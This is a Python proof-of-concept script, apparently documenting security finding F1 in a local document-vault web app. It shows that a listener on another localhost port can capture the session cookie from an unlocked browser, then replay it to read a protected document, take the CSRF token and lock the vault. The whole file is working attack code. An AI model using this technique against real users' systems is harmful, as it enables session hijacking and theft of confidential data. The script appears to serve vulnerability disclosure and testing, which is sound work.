"""F1: the tamga_session cookie is sent by the monitor's browser to ANY server on 127.0.0.1 (cookies ignore the port).
Another local user runs a listener on 127.0.0.1:P2; the monitor opens one link to it; the listener logs the cookie,
then uses it (with curl-like requests, no browser) to read the unlocked vault and take the CSRF token."""
import http.server, os, sys, threading, time, re
sys.path.insert(0, os.path.dirname(__file__))
import web
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait
os.environ.setdefault("SE_OFFLINE", "true")
D = sys.argv[1] if len(sys.argv) > 1 else "/tmp/wa40/v1"
stolen = {}
class Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        stolen["cookie"] = self.headers.get("Cookie"); stolen["host"] = self.headers.get("Host")
        self.send_response(200); self.send_header("Content-Type", "text/html"); self.end_headers()
        self.wfile.write(b"<html><body>cat pictures</body></html>")
    def log_message(self, *a): pass
evil = http.server.HTTPServer(("127.0.0.1", 0), Evil); threading.Thread(target=evil.serve_forever, daemon=True).start()
p, base, token = web.serve(D)
o = webdriver.ChromeOptions(); o.binary_location = "/usr/bin/chromium"
for a in ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"]: o.add_argument(a)
drv = webdriver.Chrome(options=o, service=Service(executable_path="/usr/bin/chromedriver"))
try:
    drv.get(f"{base}/#{token}")
    WebDriverWait(drv, 20).until(lambda d: "/unlock" in d.current_url)
    drv.find_element(By.ID, "member").send_keys("Admin")
    drv.find_element(By.ID, "passphrase").send_keys(open(D + "/passphrase").read().rstrip("\n"))
    drv.find_element(By.CSS_SELECTOR, "form[action='/unlock'] button").click()
    WebDriverWait(drv, 20).until(lambda d: "/documents" in d.current_url)
    print("monitor unlocked in chromium at", base)
    # The monitor follows one link to another local port (e.g. a link in a mail, a local dev server, a page's redirect).
    drv.get(f"http://127.0.0.1:{evil.server_port}/")
    print("listener on 127.0.0.1:%d got Host=%s Cookie=%s" % (evil.server_port, stolen.get("host"), stolen.get("cookie")))
finally:
    drv.quit()
# The other local user now uses the cookie directly.
c = web.Client(base)
name, value = stolen["cookie"].split(";")[0].split("=", 1)
c.cookies[name] = value
s = c.get("/documents/VR-2014-017")
print("GET /documents/VR-2014-017 with stolen cookie:", s[0], "| contains 'Sadykov':", "Sadykov" in s[2])
print("CSRF token read from the page:", bool(c.csrf))
s = c.post("/lock", {"csrf": c.csrf}); print("POST /lock with stolen cookie+csrf:", s[0], s[1].get("location"))
p.terminate(); p.wait()
